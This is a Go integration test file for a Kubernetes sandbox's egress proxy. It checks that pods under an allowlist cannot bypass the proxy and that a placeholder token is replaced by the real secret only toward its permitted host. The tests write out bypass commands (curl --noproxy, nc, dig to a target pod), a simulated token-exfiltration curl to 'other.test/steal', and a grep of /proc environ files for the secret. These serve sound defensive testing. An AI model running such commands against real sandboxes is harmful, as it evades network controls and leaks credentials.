package kube_test

import (
	"bytes"
	"context"
	"crypto/tls"
	"crypto/x509"
	"encoding/json"
	"fmt"
	"io"
	"log"
	"net"
	"net/http"
	"net/http/httptest"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	corev1 "k8s.io/api/core/v1"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"

	"github.com/hutchsandbox/hutch/internal/egress"
	"github.com/hutchsandbox/hutch/internal/engine"
	"github.com/hutchsandbox/hutch/internal/imagebuild"
	"github.com/hutchsandbox/hutch/internal/netpolicy"
	"github.com/hutchsandbox/hutch/internal/sandbox"
	"github.com/hutchsandbox/hutch/internal/sandbox/kube"
	"github.com/hutchsandbox/hutch/internal/testenv"
)

// Values the tests give a placeholder: the real one must reach only the
// listed host, and nothing in the pod, or the pod object, may hold it.
const (
	realSecret = "ghp_REALsecretVALUEthatMUSTstayOUT1"
	token      = "hutch-placeholder-00112233445566778899aabbccddeeff"
)

// egressFixture is a kube installation whose conversations run in the
// Debian clients image (curl, nc, dig) and go out through relays whose
// proxies reach one HTTPS server on the host by two names, api.test and
// other.test. Beside them runs a target pod that answers TCP on 8080
// and DNS on 53: what a pod that ignores the proxy would try to reach.
type egressFixture struct {
	*fixture
	rt *kube.Runtime
	// withEgress gives a runtime's config the image and the egress
	// proxy: another replica is made with it.
	withEgress func(*kube.Config)
	policy     atomic.Pointer[netpolicy.Policy]
	target     string // the target pod's IP
	mu         sync.Mutex
	requests   []string // what the upstream received: "host path authorization query"
	events     []egress.Event
}

func newEgressFixture(t *testing.T) *egressFixture {
	t.Helper()
	f := &egressFixture{fixture: newFixture(t)}
	cli := testenv.Docker(t)
	img := testenv.DebianClientsImage(t, cli, func(ctx context.Context, w io.Writer) (string, error) {
		eng, err := engine.Connect(ctx)
		if err != nil {
			return "", err
		}
		defer func() { _ = eng.Close() }()
		return imagebuild.ResolveBase(ctx, eng, imagebuild.DefaultBase, w)
	})
	f.cluster.LoadDockerImage(t, cli, img)

	upstream, roots := f.upstream(t)
	allow, _ := netpolicy.ParseAllowlist([]string{"api.test"})
	f.policy.Store(&netpolicy.Policy{Mode: netpolicy.ModeAllowlist, Allow: allow})
	secretHosts, _ := netpolicy.ParseAllowlist([]string{"api.test"})
	caFor := func(string) (*egress.CA, error) { return egress.LoadOrCreateCA(f.state) }
	relays := &egress.Relays{New: func(key string) (*egress.Proxy, error) {
		ca, err := caFor(key)
		if err != nil {
			return nil, err
		}
		return &egress.Proxy{
			Office: key,
			Policy: func() netpolicy.Policy { return *f.policy.Load() },
			Secrets: func() []egress.Secret {
				return []egress.Secret{{Name: "GH_TOKEN", Placeholder: token, Value: realSecret, Hosts: secretHosts}}
			},
			CA:            ca,
			UpstreamRoots: roots,
			// The test's names lead to the upstream on the host; the real
			// dialer would refuse a loopback address.
			Dial: func(ctx context.Context, network, _ string) (net.Conn, error) {
				var d net.Dialer
				return d.DialContext(ctx, network, upstream)
			},
			Record: func(ev egress.Event) {
				f.mu.Lock()
				defer f.mu.Unlock()
				f.events = append(f.events, ev)
			},
		}, nil
	}}
	t.Cleanup(relays.Close)
	f.withEgress = func(c *kube.Config) {
		c.Image = img
		c.Egress = relays
		c.EgressCA = caFor
	}
	f.rt = f.runtimeWith(t, f.withEgress)
	f.target = f.targetPod(t, img)
	return f
}

// upstream starts an HTTPS server on the host's loopback for api.test
// and other.test, with a CA of its own, recording every request, and
// returns its address and a pool of that CA.
func (f *egressFixture) upstream(t *testing.T) (string, *x509.CertPool) {
	t.Helper()
	ca := testenv.NewCA(t, "hutch kube egress test CA")
	srv := httptest.NewUnstartedServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		f.mu.Lock()
		f.requests = append(f.requests, r.Host+" "+r.URL.Path+" "+r.Header.Get("Authorization")+" "+r.URL.RawQuery)
		f.mu.Unlock()
		_, _ = io.WriteString(w, "upstream answered\n")
	}))
	srv.Config.ErrorLog = log.New(io.Discard, "", 0) // the proxy's probes and hang-ups
	srv.TLS = &tls.Config{Certificates: []tls.Certificate{ca.Server(t, "api.test", "other.test")}}
	srv.StartTLS()
	t.Cleanup(srv.Close)
	return srv.Listener.Addr().String(), ca.Pool()
}

// targetScript answers TCP on 8080 with an HTTP reply and DNS queries on
// UDP 53 with an empty NOERROR answer.
const targetScript = `
import socket, threading
def tcp():
    s = socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    s.bind(("0.0.0.0", 8080)); s.listen(16)
    while True:
        c, _ = s.accept()
        try:
            c.recv(4096); c.sendall(b"HTTP/1.0 200 OK\r\nContent-Length: 8\r\n\r\nreached\n")
        finally:
            c.close()
threading.Thread(target=tcp, daemon=True).start()
u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); u.bind(("0.0.0.0", 53))
while True:
    d, a = u.recvfrom(4096)
    if len(d) >= 12:
        u.sendto(d[:2] + bytes([d[2] | 0x80, 0]) + d[4:], a)
`

// targetPod runs the target pod (no hutch label, so no policy of hutch's
// selects it) and returns its IP. Traffic to it leaves a pod's network
// namespace as traffic to anywhere off the node does; traffic to the
// node's own addresses is another matter (see docs/kube.md).
func (f *egressFixture) targetPod(t *testing.T, img string) string {
	t.Helper()
	ctx := context.Background()
	grace := int64(0)
	pod := &corev1.Pod{
		ObjectMeta: metav1.ObjectMeta{Name: "egress-target", Namespace: f.namespace},
		Spec: corev1.PodSpec{
			RestartPolicy:                 corev1.RestartPolicyNever,
			TerminationGracePeriodSeconds: &grace,
			Containers: []corev1.Container{{
				Name: "target", Image: img, ImagePullPolicy: corev1.PullNever,
				Command: []string{"python3", "-u", "-c", targetScript},
			}},
		},
	}
	pods := f.cluster.Client.CoreV1().Pods(f.namespace)
	if _, err := pods.Create(ctx, pod, metav1.CreateOptions{}); err != nil {
		t.Fatal(err)
	}
	deadline := time.Now().Add(2 * time.Minute)
	for {
		p, err := pods.Get(ctx, pod.Name, metav1.GetOptions{})
		if err != nil {
			t.Fatal(err)
		}
		if p.Status.Phase == corev1.PodRunning && p.Status.PodIP != "" {
			return p.Status.PodIP
		}
		if p.Status.Phase == corev1.PodFailed || time.Now().After(deadline) {
			t.Fatalf("the target pod does not run: %+v", p.Status)
		}
		time.Sleep(200 * time.Millisecond)
	}
}

// sh runs cmd (stderr with stdout) with the placeholder in its env and
// returns its output and exit code.
func (f *egressFixture) sh(t *testing.T, spec sandbox.Spec, cmd string) (string, int) {
	t.Helper()
	return f.shOn(t, f.rt, spec, cmd)
}

// shOn is sh through the runtime rt.
func (f *egressFixture) shOn(t *testing.T, rt *kube.Runtime, spec sandbox.Spec, cmd string) (string, int) {
	t.Helper()
	var out bytes.Buffer
	res, err := rt.Exec(context.Background(), spec, sandbox.ExecRequest{
		Argv: []string{cmd + " 2>&1"}, Env: map[string]string{"GH_TOKEN": token}, Stdout: &out, Stderr: &out, Timeout: 2 * time.Minute,
	})
	if err != nil {
		t.Fatalf("Exec(%q): %v", cmd, err)
	}
	return strings.TrimSpace(out.String()), res.ExitCode
}

// received is what the upstream received, one request a line.
func (f *egressFixture) received() string {
	f.mu.Lock()
	defer f.mu.Unlock()
	return strings.Join(f.requests, "\n")
}

// bypasses are ways round the proxy to the target pod: TCP ignoring
// HTTPS_PROXY, raw TCP, and DNS (UDP) to a server of the pod's choosing.
func (f *egressFixture) bypasses() map[string]string {
	return map[string]string{
		"TCP ignoring the proxy": "curl -sS --max-time 5 --noproxy '*' http://" + f.target + ":8080/",
		"raw TCP":                "nc -z -w 3 " + f.target + " 8080",
		"DNS":                    "dig +time=2 +tries=1 @" + f.target + " example.com",
	}
}

// noEgressPolicy is the NetworkPolicy hutch made to cut proxied pods off.
func (f *egressFixture) noEgressPolicy(t *testing.T) string {
	t.Helper()
	list, err := f.cluster.Client.NetworkingV1().NetworkPolicies(f.namespace).List(context.Background(), metav1.ListOptions{})
	if err != nil {
		t.Fatal(err)
	}
	for _, np := range list.Items {
		if strings.HasSuffix(np.Name, "-no-egress") {
			data, _ := json.Marshal(np.Spec)
			return string(data)
		}
	}
	return ""
}

// TestEgress_ProxiedPod: a conversation switched from open to allowlist
// gets a new pod, labelled proxied, that the namespace's NetworkPolicy
// cuts off: listed hosts answer through hutch's proxy, others are refused
// with 403, and what reached the target pod under open (TCP ignoring the
// proxy, raw TCP, DNS) no longer does.
func TestEgress_ProxiedPod(t *testing.T) {
	f := newEgressFixture(t)
	spec := f.office(t, "proxied")

	// Under open the pod has the cluster's network: every bypass reaches
	// the target, which shows the checks below can fail. These must
	// succeed, so each has a few tries: a lone UDP query (DNS) to a pod
	// just made was once lost in a loaded CI run. The checks that must
	// fail, below, get one try each.
	spec.Network = netpolicy.ModeOpen
	for name, cmd := range f.bypasses() {
		var out string
		code := -1
		for try := 0; try < 5 && code != 0; try++ {
			if try > 0 {
				time.Sleep(time.Second)
			}
			out, code = f.sh(t, spec, cmd)
		}
		if code != 0 {
			t.Errorf("under open, %s did not reach the target pod in 5 tries: exit %d, %q", name, code, out)
		}
	}
	open := f.pod(t, spec)
	if open.Labels["hutch.egress"] != "" {
		t.Errorf("an open pod is labelled hutch.egress=%s", open.Labels["hutch.egress"])
	}

	spec.Network = netpolicy.ModeAllowlist
	if out, code := f.sh(t, spec, "curl -sS -o /dev/null -w '%{http_code}' https://api.test/listed"); code != 0 || out != "200" {
		t.Errorf("a listed host through the proxy: exit %d, %q", code, out)
	}
	pod := f.pod(t, spec)
	if pod.UID == open.UID {
		t.Fatal("switching open to allowlist kept the pod")
	}
	if _, why := sandbox.RecreatedFrom(pod.Annotations); !strings.Contains(why, "network") {
		t.Errorf("the new pod says it was re-created because %q; want its network named", why)
	}
	if pod.Labels["hutch.egress"] != "proxied" {
		t.Errorf("the allowlist pod's labels: %v", pod.Labels)
	}
	if np := f.noEgressPolicy(t); !strings.Contains(np, `"hutch.egress":"proxied"`) || !strings.Contains(np, `"policyTypes":["Egress"]`) || strings.Contains(np, `"egress":`) {
		t.Errorf("the no-egress NetworkPolicy: %s", np)
	}
	if out, code := f.sh(t, spec, "curl -sS https://other.test/unlisted"); code == 0 || !strings.Contains(out, "403") {
		t.Errorf("an unlisted host: exit %d, %q; want a 403 from the proxy", code, out)
	}
	for name, cmd := range f.bypasses() {
		if out, code := f.sh(t, spec, cmd); code == 0 {
			t.Errorf("bypass %s succeeded under allowlist: %q", name, out)
		}
	}
	if got := f.received(); strings.Contains(got, "/unlisted") || !strings.Contains(got, "api.test /listed") {
		t.Errorf("the upstream received:\n%s", got)
	}

	// Another replica's exec stream is an agent of its own, whose relay
	// listens on the next port: its commands go out through it.
	other := f.runtimeWith(t, f.withEgress)
	if out, code := f.shOn(t, other, spec, "echo $HTTPS_PROXY; curl -sS -o /dev/null -w '%{http_code}' https://api.test/other-replica"); code != 0 || out != "http://127.0.0.1:3129\n200" {
		t.Errorf("through another replica: exit %d, %q", code, out)
	}
	if out, code := f.sh(t, spec, "echo $HTTPS_PROXY"); code != 0 || out != "http://127.0.0.1:3128" {
		t.Errorf("this replica's proxy: exit %d, %q", code, out)
	}

	// none keeps the pod (the same cut-off pod) and the proxy refuses
	// every host.
	spec.Network = netpolicy.ModeNone
	f.policy.Store(&netpolicy.Policy{Mode: netpolicy.ModeNone})
	if out, code := f.sh(t, spec, "curl -sS https://api.test/under-none"); code == 0 || !strings.Contains(out, "403") {
		t.Errorf("under none: exit %d, %q; want a 403", code, out)
	}
	if f.pod(t, spec).UID != pod.UID {
		t.Error("switching allowlist to none re-created the pod")
	}
}

// TestEgress_PlaceholderPod: the placeholder a command sends is replaced
// by the real value toward its host only, and the value is nowhere in
// the pod: not its object, not a process's environment. Under open the
// pod keeps its network and placeholders still go through the proxy.
func TestEgress_PlaceholderPod(t *testing.T) {
	f := newEgressFixture(t)
	both, _ := netpolicy.ParseAllowlist([]string{"api.test", "other.test"})
	f.policy.Store(&netpolicy.Policy{Mode: netpolicy.ModeAllowlist, Allow: both})
	spec := f.office(t, "placeholder")
	spec.Network = netpolicy.ModeAllowlist
	spec.Placeholders = true

	if out, code := f.sh(t, spec, `curl -sS -H "Authorization: Bearer $GH_TOKEN" "https://api.test/curl?t=$GH_TOKEN"`); code != 0 || strings.Contains(out, realSecret) {
		t.Errorf("toward the secret's host: exit %d, %q", code, out)
	}
	if got := f.received(); !strings.Contains(got, "api.test /curl Bearer "+realSecret+" t="+realSecret) || strings.Contains(got, token) {
		t.Errorf("the upstream did not get the real value, and only it:\n%s", got)
	}
	// other.test is listed for the network, not for the secret.
	if out, code := f.sh(t, spec, `curl -sS -w ' %{http_code}' -H "Authorization: Bearer $GH_TOKEN" https://other.test/steal`); code == 0 && !strings.HasSuffix(out, " 403") {
		t.Errorf("the placeholder toward other.test: exit %d, %q", code, out)
	}
	if got := f.received(); strings.Contains(got, "/steal") {
		t.Errorf("other.test received the placeholder's request:\n%s", got)
	}
	f.mu.Lock()
	refused := false
	for _, ev := range f.events {
		refused = refused || (ev.Kind == egress.KindRefused && ev.Host == "other.test" && ev.Secret == "GH_TOKEN")
	}
	f.mu.Unlock()
	if !refused {
		t.Error("the refused placeholder was not recorded")
	}

	// Not in any process's environment, nor a file hutch put in the pod,
	// nor the pod object.
	if out, _ := f.sh(t, spec, "grep -l -s '"+realSecret+"' /proc/[0-9]*/environ; grep -rl -s '"+realSecret+"' /hutch /etc /workspace /tmp /root; true"); out != "" {
		t.Errorf("the value is inside the pod: %q", out)
	}
	pod := f.pod(t, spec)
	if data, _ := json.Marshal(pod); bytes.Contains(data, []byte(realSecret)) {
		t.Error("the pod object holds the value")
	}
	if pod.Labels["hutch.egress"] != "proxied" {
		t.Errorf("the pod's labels: %v", pod.Labels)
	}

	// Under open with placeholders: a new pod, with its network (the
	// target answers), and the placeholder still substituted.
	spec.Network = netpolicy.ModeOpen
	f.policy.Store(&netpolicy.Policy{Mode: netpolicy.ModeOpen})
	if out, code := f.sh(t, spec, `curl -sS -H "Authorization: Bearer $GH_TOKEN" https://api.test/open`); code != 0 {
		t.Errorf("open with a placeholder: exit %d, %q", code, out)
	}
	if got := f.received(); !strings.Contains(got, "api.test /open Bearer "+realSecret) {
		t.Errorf("the value was not substituted under open:\n%s", got)
	}
	relayed := f.pod(t, spec)
	if relayed.UID == pod.UID || relayed.Labels["hutch.egress"] != "relayed" {
		t.Errorf("under open the pod is %s labelled %v; want a new one labelled relayed", relayed.UID, relayed.Labels)
	}
	if out, code := f.sh(t, spec, fmt.Sprintf("curl -sS --max-time 5 --noproxy '*' http://%s:8080/", f.target)); code != 0 || out != "reached" {
		t.Errorf("an open pod with placeholders lost its network: exit %d, %q", code, out)
	}
}
